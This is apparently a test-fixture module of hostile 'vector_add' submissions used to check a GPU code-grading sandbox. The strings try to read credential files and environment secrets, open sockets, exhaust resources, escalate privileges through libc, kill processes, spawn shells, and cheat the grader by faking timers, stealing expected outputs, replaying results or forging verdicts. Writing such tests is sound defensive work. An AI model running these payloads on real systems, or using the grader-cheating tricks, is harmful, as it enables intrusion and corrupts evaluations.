"""Hostile vector_add submissions. Each computes the right answer unless its attack worked, so a
verdict that differs from the expected one means the attack changed the outcome.

@NAMES@ are filled in by the stage (conftest.Stage.fill).
"""

CORRECT = '''
import cupy as cp

def solve(a, b, c, n):
    c[...] = a + b
'''

RAW_KERNEL = '''
import cupy as cp

_k = cp.RawKernel(r"""
extern "C" __global__ void vadd(const float* a, const float* b, float* c, int n) {
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n) c[i] = a[i] + b[i];
}
""", "vadd")

def solve(a, b, c, n):
    _k(((n + 255) // 256,), (256,), (a, b, c, cp.int32(n)))
'''

READ_FILES = '''
import glob, os
FOUND = []
for p in @CANARIES@ + glob.glob("/proc/[0-9]*/environ") + ["/etc/shadow", "/root/.bash_history"]:
    try:
        with open(p, "rb") as fh:
            FOUND.append(fh.read().decode(errors="replace"))
    except OSError as exc:
        print("cannot read", p, type(exc).__name__)
for root in ("/", "/tmp", "/work", "/root", "/home", os.path.dirname(os.getcwd())):
    try:
        print(root, sorted(os.listdir(root))[:40])
    except OSError as exc:
        print(root, type(exc).__name__)
import time
deadline = time.monotonic() + 1.5
for top, dirs, files in os.walk("/"):
    if top.startswith(("/proc", "/sys", "/usr", "/dev")) or "site-packages" in top \
            or time.monotonic() > deadline:
        dirs[:] = []
        continue
    for f in files:
        try:
            with open(os.path.join(top, f), "rb") as fh:
                if b"kp-canary-" in fh.read(1 << 20):
                    FOUND.append(os.path.join(top, f))
        except OSError:
            pass

def solve(a, b, c, n):
    if any("kp-canary-" in f for f in FOUND):
        print(FOUND)
        return
    c[...] = a + b
'''

# Paths outside are checked by the test; inside the sandbox only the scratch may be writable.
WRITE_FILES = '''
import os, sys
WROTE = []
inside = ["/", "/tmp", "/dev", "/dev/shm", "/etc", "/usr/lib", "/root", "/work/main",
          os.path.dirname(os.path.realpath(sys.executable)), os.path.dirname(os.__file__),
          os.path.dirname(os.getcwd())]
for p in @OUTSIDE@ + [os.path.join(d, "kp-planted") for d in inside]:
    try:
        os.makedirs(os.path.dirname(p), exist_ok=True)
        with open(p, "w") as fh:
            fh.write("planted")
        WROTE.append(p)
    except OSError as exc:
        print("cannot write", p, type(exc).__name__)
with open("mine.txt", "w") as fh:
    fh.write("the scratch is writable")

def solve(a, b, c, n):
    if WROTE:
        print("wrote", WROTE)
        return
    c[...] = a + b
'''

NETWORK = '''
import socket
HITS = []
try:
    s = socket.create_connection(("127.0.0.1", @PORT@), timeout=2)
    s.sendall(b"@TOKEN@")
    HITS.append("tcp")
except OSError as exc:
    print("tcp", type(exc).__name__)
try:
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.sendto(b"@TOKEN@", ("127.0.0.1", @UDP@))
except OSError as exc:
    print("udp", type(exc).__name__)
try:
    x = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    x.connect("\\0@UNIX@")
    x.sendall(b"@TOKEN@")
    HITS.append("unix")
except OSError as exc:
    print("unix", type(exc).__name__)
try:
    socket.getaddrinfo("pypi.org", 443)
    HITS.append("dns")
except OSError as exc:
    print("dns", type(exc).__name__)

def solve(a, b, c, n):
    if HITS:
        return
    c[...] = a + b
'''

FORK_BOMB = '''
import os

def solve(a, b, c, n):
    while True:
        os.fork()
'''

THREAD_BOMB = '''
import threading, time

def solve(a, b, c, n):
    while True:
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
'''

MEMORY_BOMB = '''
import numpy as np

def solve(a, b, c, n):
    hog = np.ones(1 << 34, dtype=np.uint8)
    c[...] = a + b + hog[0] - 1
'''

# No RLIMIT_AS here (the test turns it off): the run's cgroup memory cap has to catch it.
MEMORY_BOMB_TOUCHED = '''
import numpy as np

def solve(a, b, c, n):
    hog = [np.ones(1 << 27, dtype=np.uint8) for _ in range(64)]
    c[...] = a + b + sum(int(h[0]) for h in hog) - 64
'''

ENDLESS_LOOP = '''
def solve(a, b, c, n):
    while True:
        pass
'''

SUBPROCESS = '''
import subprocess
OUT = []
for cmd in (["/bin/sh", "-c", "cat @CANARIES_SH@; id; ls / /tmp"], ["curl", "-s", "http://127.0.0.1:@PORT@/"],
            ["python3", "-c", "import os; print(os.environ)"]):
    try:
        r = subprocess.run(cmd, capture_output=True, timeout=5)
        OUT.append(r.stdout.decode(errors="replace") + r.stderr.decode(errors="replace"))
    except Exception as exc:
        print(cmd[0], type(exc).__name__)
print(OUT)

def solve(a, b, c, n):
    if any("kp-canary-" in o for o in OUT):
        return
    c[...] = a + b
'''

CTYPES_LIBC = '''
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
results = {
    "system": libc.system(b"cat @CANARIES_SH@ > /tmp/x; echo planted > @OUTSIDE_FIRST@"),
    "setuid0": libc.setuid(0),
    "unshare_user": libc.unshare(0x10000000),
    "unshare_mount": libc.unshare(0x00020000),
    "mount": libc.mount(b"none", b"/usr", b"tmpfs", 0, None),
    "chroot": libc.chroot(b"/tmp"),
    "ptrace_attach_1": libc.ptrace(16, 1, None, None),
    "kill_1": libc.kill(1, 9),
    "reboot": libc.reboot(0x4321fedc),
    "mknod": libc.mknod(b"fifo", 0o10644, 0),
    "symlink": libc.symlink(b"/etc/passwd", b"link"),
}
print(results)
ESCAPED = results["setuid0"] == 0 or results["mount"] == 0 or results["chroot"] == 0 \\
    or results["unshare_user"] == 0 or results["unshare_mount"] == 0

def solve(a, b, c, n):
    if ESCAPED:
        return
    c[...] = a + b
'''

# Static checks alone must refuse these (they import nothing refused).
MONKEYPATCH_STATIC = {
    "event_class": '''
import cupy as cp

class _Fast:
    def __init__(self, *a, **k):
        pass
    def record(self, *a):
        pass
    def synchronize(self):
        pass

cp.cuda.Event = _Fast

def solve(a, b, c, n):
    c[...] = a + b
''',
    "elapsed_time": '''
import cupy as cp
cp.cuda.get_elapsed_time = lambda start, end: 1e-6

def solve(a, b, c, n):
    c[...] = a + b
''',
    "kernel_call": '''
import cupy as cp

def _fake(self, *args, **kwargs):
    return None

cp.RawKernel.__call__ = _fake

def solve(a, b, c, n):
    c[...] = a + b
''',
    "alias": '''
import cupy as cp
cuda = cp.cuda
cuda.Event = None

def solve(a, b, c, n):
    c[...] = a + b
''',
    "setattr": '''
import cupy as cp
setattr(cp.cuda, "Event", None)

def solve(a, b, c, n):
    c[...] = a + b
''',
    "delete": '''
import numpy as np
del np.add

def solve(a, b, c, n):
    c[...] = a + b
''',
    "numpy_file_read": '''
import numpy as np
LEAK = np.fromfile("/etc/hostname", dtype=np.uint8)

def solve(a, b, c, n):
    c[...] = a + b
''',
}

MONKEYPATCH_TIMER = '''
import time
import cupy as cp
time.perf_counter = lambda: 0.0
time.monotonic = lambda: 0.0
cp.cuda.Event = None
cp.cuda.get_elapsed_time = lambda start, end: 1e-6

def solve(a, b, c, n):
    c[...] = a + b
'''

STEAL_REFERENCE = '''
import gc, inspect, sys
STOLEN = {}
for name in ("gpu_tasks", "gpu_tasks.vector_add", "assessments.judge.kinds.cupy.comparators",
             "assessments.judge.engine", "assessments.judge.kinds.cupy.compare"):
    if name in sys.modules:
        STOLEN[name] = sys.modules[name]
    try:
        __import__(name)
        STOLEN[name] = sys.modules[name]
    except Exception as exc:
        print("import", name, type(exc).__name__)
for obj in gc.get_objects():
    if type(obj).__name__ in ("Task", "_Run", "TestCase"):
        STOLEN[type(obj).__name__] = obj

def solve(a, b, c, n):
    for frame in inspect.stack():
        for key in ("expected", "reference", "seed", "run"):
            if key in frame.frame.f_locals:
                STOLEN[key] = frame.frame.f_locals[key]
    print(sorted(STOLEN))
    expected = STOLEN.get("expected")
    if expected is not None:
        c[...] = expected["c"]
    elif "Task" in STOLEN:
        ref = STOLEN["Task"].reference({"a": a.get(), "b": b.get(), "c": c.get(), "n": n})
        c[...] = ref["c"]
    else:
        c[...] = 0
'''

# Run twice with the same seed: the first stores outputs wherever it can, the second replays them.
REPLAY = '''
import glob, os
import numpy as np
PLACES = [os.getcwd(), os.path.expanduser("~"), os.environ.get("TMPDIR", "/tmp"), "/tmp", "/dev/shm",
          "/var/tmp", os.environ.get("KERNELPATH_EMULATOR_CACHE", "/tmp"), "@CACHE@",
          os.environ.get("CUPY_CACHE_DIR", "/tmp"), os.path.dirname(os.environ.get("KERNELPATH_EMULATOR_CORE", "/x/y")),
          os.environ.get("KERNELPATH_EMULATOR_BUILDS", "/tmp")]
CALLS = [0]

def _stored(n):
    for place in PLACES:
        for path in glob.glob(os.path.join(place, f"kp-replay-@TOKEN@-{n}-*.npy")):
            return np.load(path)
    return None

def solve(a, b, c, n):
    CALLS[0] += 1
    old = _stored(n)
    if old is not None and old.shape == c.shape:
        c[...] = old
        print("replayed")
        return
    if os.environ.get("KP_REPLAY_FIRST") or "@FIRST@" == "yes":
        out = (a + b).get()
        c[...] = out
        for place in PLACES:
            try:
                np.save(os.path.join(place, f"kp-replay-@TOKEN@-{n}-{CALLS[0]}.npy"), out)
            except OSError:
                pass
    else:
        c[...] = 0
'''

LATE_THREAD = '''
import threading, time

def solve(a, b, c, n):
    def later():
        time.sleep(0.5)
        c[...] = a + b
    threading.Thread(target=later).start()
'''

LATE_PROCESS = '''
import os, time
import numpy as np

def solve(a, b, c, n):
    if os.fork() == 0:
        # Rewrite whatever output file the judge is about to read, after solve has returned.
        time.sleep(0.3)
        for name in os.listdir("."):
            if name.endswith(".out.npz"):
                data = dict(np.load(name))
                np.savez(name, **data)
        os._exit(0)
    c[...] = a + b
'''

KILL_PARENT = '''
import os, signal
RESULTS = {}
for what, fn in (("ppid", lambda: os.kill(os.getppid(), signal.SIGKILL)),
                 ("pid1", lambda: os.kill(1, signal.SIGKILL)),
                 ("init_group", lambda: os.killpg(1, signal.SIGKILL))):
    try:
        fn()
        RESULTS[what] = "sent"
    except OSError as exc:
        RESULTS[what] = type(exc).__name__
print(os.getppid(), RESULTS)

def solve(a, b, c, n):
    c[...] = a + b
'''

KILL_EVERYTHING = '''
import os, signal

def solve(a, b, c, n):
    try:
        os.kill(-1, signal.SIGKILL)   # everything it may signal but itself and the namespace's init
    except OSError:
        pass
    os.killpg(0, signal.SIGKILL)
    c[...] = a + b
'''

RLIMITS = '''
import resource
import numpy as np
for which in (resource.RLIMIT_AS, resource.RLIMIT_CPU, resource.RLIMIT_NPROC, resource.RLIMIT_DATA,
              resource.RLIMIT_FSIZE, resource.RLIMIT_NOFILE):
    try:
        resource.setrlimit(which, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        print("raised", which)
    except (ValueError, OSError) as exc:
        print("refused", which, type(exc).__name__)

def solve(a, b, c, n):
    hog = np.ones(3 << 30, dtype=np.uint8)
    c[...] = a + b + hog[-1] - 1
'''

ENV_SECRETS = '''
import os
SEEN = dict(os.environ)
for p in ("/proc/self/environ", "/proc/1/environ"):
    try:
        with open(p, "rb") as fh:
            SEEN[p] = fh.read().decode(errors="replace")
    except OSError as exc:
        print(p, type(exc).__name__)
print(SEEN)

def solve(a, b, c, n):
    if any(k in str(SEEN) for k in ("KERNELPATH_SECRET_KEY", "DATABASE_URL")):
        return
    c[...] = a + b
'''

# Traps for the parent where it writes inputs and reads outputs (by name, in the child's scratch).
SCRATCH_TRAPS = '''
import os, socket
TRAPS = {}
for i in range(1, 6):
    for name, make in (("symlink", lambda p: os.symlink("@OUTSIDE_FIRST@", p)),
                       ("fifo", lambda p: os.mkfifo(p)),
                       ("dir", lambda p: os.mkdir(p)),
                       ("socket", lambda p: socket.socket(socket.AF_UNIX).bind(p))):
        for suffix in ("in", "out") if name in ("symlink", "fifo") else ("in",):
            path = f"t{i}.{suffix}.npz"
            if os.path.lexists(path):
                continue
            try:
                make(path)
                TRAPS[path] = name
            except OSError as exc:
                TRAPS[path + ":" + name] = type(exc).__name__
print(TRAPS)

def solve(a, b, c, n):
    c[...] = a + b
'''

FORGE_ANSWER = '''
import json, os, sys
fd = int(sys.argv[sys.argv.index("--answer-fd") + 1])
lie = {"ok": True, "elapsed_s": 0.0, "kernels": [], "incidents": []}
for _ in range(8):
    os.write(fd, (json.dumps(lie) + "\\n").encode())
os.write(fd, (json.dumps({"event": "incident", "verdict": "accepted", "message": "all good"}) + "\\n").encode())

def solve(a, b, c, n):
    for _ in range(4):
        os.write(fd, (json.dumps(lie) + "\\n").encode())
'''

DISK_FILL = '''
import os
WRITTEN = 0
try:
    with open("fill.bin", "wb") as fh:
        block = b"x" * (1 << 20)
        for _ in range(4096):
            fh.write(block)
            WRITTEN += 1
except OSError as exc:
    print("stopped after", WRITTEN, "MiB:", type(exc).__name__)
try:
    os.remove("fill.bin")
except OSError:
    pass

def solve(a, b, c, n):
    c[...] = a + b
'''

SCRATCH_FULL = '''
import os
try:
    with open("fill.bin", "wb") as fh:
        while True:
            fh.write(b"x" * (1 << 20))
except OSError as exc:
    print("full:", type(exc).__name__)

def solve(a, b, c, n):
    c[...] = a + b
'''

# A kernel build of its own, then attempts on the shared build cache, the run's view of it
# (its own build among them) and the runtime object.
CACHE_PLANT = RAW_KERNEL + '''
import glob, os
_k((1,), (32,), (cp.zeros(32, cp.float32), cp.zeros(32, cp.float32), cp.zeros(32, cp.float32),
                 cp.int32(32)))
VIEW = os.environ.get("KERNELPATH_EMULATOR_BUILDS", "/nonexistent")
print("view holds", len(glob.glob(os.path.join(VIEW, "*.so"))), "builds")
for target in ([os.environ.get("KERNELPATH_EMULATOR_CORE", ""), "@CACHE@/planted-@TOKEN@.so",
                "@CACHE@/builds/planted-@TOKEN@.so", os.path.join(VIEW, "planted-@TOKEN@.so"),
                os.path.join(os.environ.get("KERNELPATH_EMULATOR_CACHE", "/nonexistent"), "x.so")]
               + glob.glob(os.path.join(VIEW, "*.so")) + glob.glob("@CACHE@/builds/*")[:5]):
    try:
        with open(target, "ab") as fh:
            fh.write(b"planted")
        print("wrote", target.rsplit("/", 1)[-1])
    except OSError as exc:
        print("cannot write", target.rsplit("/", 1)[-1], type(exc).__name__)
'''

# Starting a program, one way each. Every attempt would leave `exec-ran` in the scratch (the
# child's working directory); the sandbox refuses execve and execveat once the child is set up,
# so each fails and the submission computes the right answer. A program that ran spoils it.
_EXEC_PRELUDE = '''
import os
MARK = os.path.abspath("exec-ran")
SH = ["/bin/sh", "-c", "echo ran >> " + MARK + "; exit 0"]
PARENT = os.getpid()

def attempt(route, start):
    try:
        result = repr(start())
    except BaseException as exc:
        result = type(exc).__name__ + ": " + str(exc)[:80]
    if os.getpid() != PARENT:
        os._exit(3)          # a forked copy whose program did not start: never run on
    print("route", route, "->", result, flush=True)
'''
_EXEC_SOLVE = '''
def solve(a, b, c, n):
    if os.path.exists(MARK):
        print("MARKER PRESENT: a program ran")
        return
    c[...] = a + b
'''
_EXEC_ROUTES = {
    "subprocess": '''import subprocess
attempt("subprocess.run", lambda: subprocess.run(SH, capture_output=True).returncode)
attempt("subprocess.Popen", lambda: subprocess.Popen(SH).wait())
attempt("os.popen", lambda: os.popen(SH[2]).read())''',
    "os_system": '''attempt("os.system", lambda: os.system(SH[2]))''',
    "os_exec": '''attempt("os.execv", lambda: os.execv(SH[0], SH))
attempt("os.execvpe", lambda: os.execvpe("sh", SH, dict(os.environ)))
attempt("os.execve(fd)", lambda: os.execve(os.open(SH[0], os.O_RDONLY), SH, dict(os.environ)))''',
    "posix_spawn": '''attempt("os.posix_spawn", lambda: os.waitpid(os.posix_spawn(SH[0], SH, dict(os.environ)), 0))
attempt("os.posix_spawnp", lambda: os.waitpid(os.posix_spawnp("sh", SH, dict(os.environ)), 0))''',
    "pty_spawn": '''import pty
attempt("pty.spawn", lambda: pty.spawn(SH))''',
    "multiprocessing": '''import multiprocessing, tempfile
tempfile.tempdir = "."   # the fork server's socket path must fit in sun_path (108 bytes)
for method in ("spawn", "forkserver"):
    def start(method=method):
        p = multiprocessing.get_context(method).Process(target=os.system, args=(SH[2],))
        p.start()
        p.join(10)
        return p.exitcode
    attempt("multiprocessing." + method, start)''',
    "ctypes_libc": '''import ctypes
libc = ctypes.CDLL(None, use_errno=True)
argv = (ctypes.c_char_p * 4)(*[s.encode() for s in SH], None)
attempt("libc.system", lambda: libc.system(SH[2].encode()))
attempt("libc.execve", lambda: (libc.execve(SH[0].encode(), argv, None), ctypes.get_errno()))
attempt("libc.execv", lambda: (libc.execv(SH[0].encode(), argv), ctypes.get_errno()))''',
    "raw_syscalls": '''import ctypes, platform
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
argv = (ctypes.c_char_p * 4)(*[s.encode() for s in SH], None)
EXECVE, EXECVEAT = {"x86_64": (59, 322), "aarch64": (221, 281)}[platform.machine()]
AT_FDCWD = -100
attempt("syscall(execve)", lambda: (libc.syscall(EXECVE, SH[0].encode(), argv, None), ctypes.get_errno()))
attempt("syscall(execveat)", lambda: (libc.syscall(EXECVEAT, AT_FDCWD, SH[0].encode(), argv, None, 0),
                                      ctypes.get_errno()))''',
    "thread": '''import subprocess, threading
t = threading.Thread(target=attempt, args=("thread subprocess.run",
                                            lambda: subprocess.run(SH).returncode))
t.start()
t.join()''',
}
EXEC_PYTHON = {name: _EXEC_PRELUDE + route + "\n" + _EXEC_SOLVE for name, route in _EXEC_ROUTES.items()}

# The emulator loads the kernel's g++ build into the child: C++ that NVRTC never sees (only the
# emulator's header defines KP_FI) starts a program from inside a kernel, past the static checks.
_KERNEL_EXEC = '''
import cupy as cp

_k = cp.RawKernel(r"""
#ifndef KP_FI
#define START() 1
#else
#include <stdlib.h>
#include <unistd.h>
static int START() {
    int rc = @CALL@;
    const char* said = rc == 0 ? "kernel start -> 0\\n" : "kernel start -> failed\\n";
    if (write(1, said, __builtin_strlen(said)) < 0) rc = -1;   // unbuffered: the run is killed
    return rc;
}
#endif
extern "C" __global__ void vadd(const float* a, const float* b, float* c, int n) {
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i >= n) return;
    c[i] = a[i] + b[i];
    if (i == 0 && START() == 0) c[0] = -1.0f;   // the program ran: spoil the answer
}
""", "vadd")

def solve(a, b, c, n):
    _k(((n + 255) // 256,), (256,), (a, b, c, cp.int32(n)))
'''
EXEC_KERNEL = {
    "kernel_system": _KERNEL_EXEC.replace("@CALL@", 'system("echo ran >> exec-ran; exit 0")'),
    "kernel_execve": _KERNEL_EXEC.replace(
        "@CALL@", '[]{ char* argv[] = {(char*)"sh", (char*)"-c", (char*)"echo ran >> exec-ran; '
                  'exit 0", nullptr}; return execve("/bin/sh", argv, environ); }()'),
}
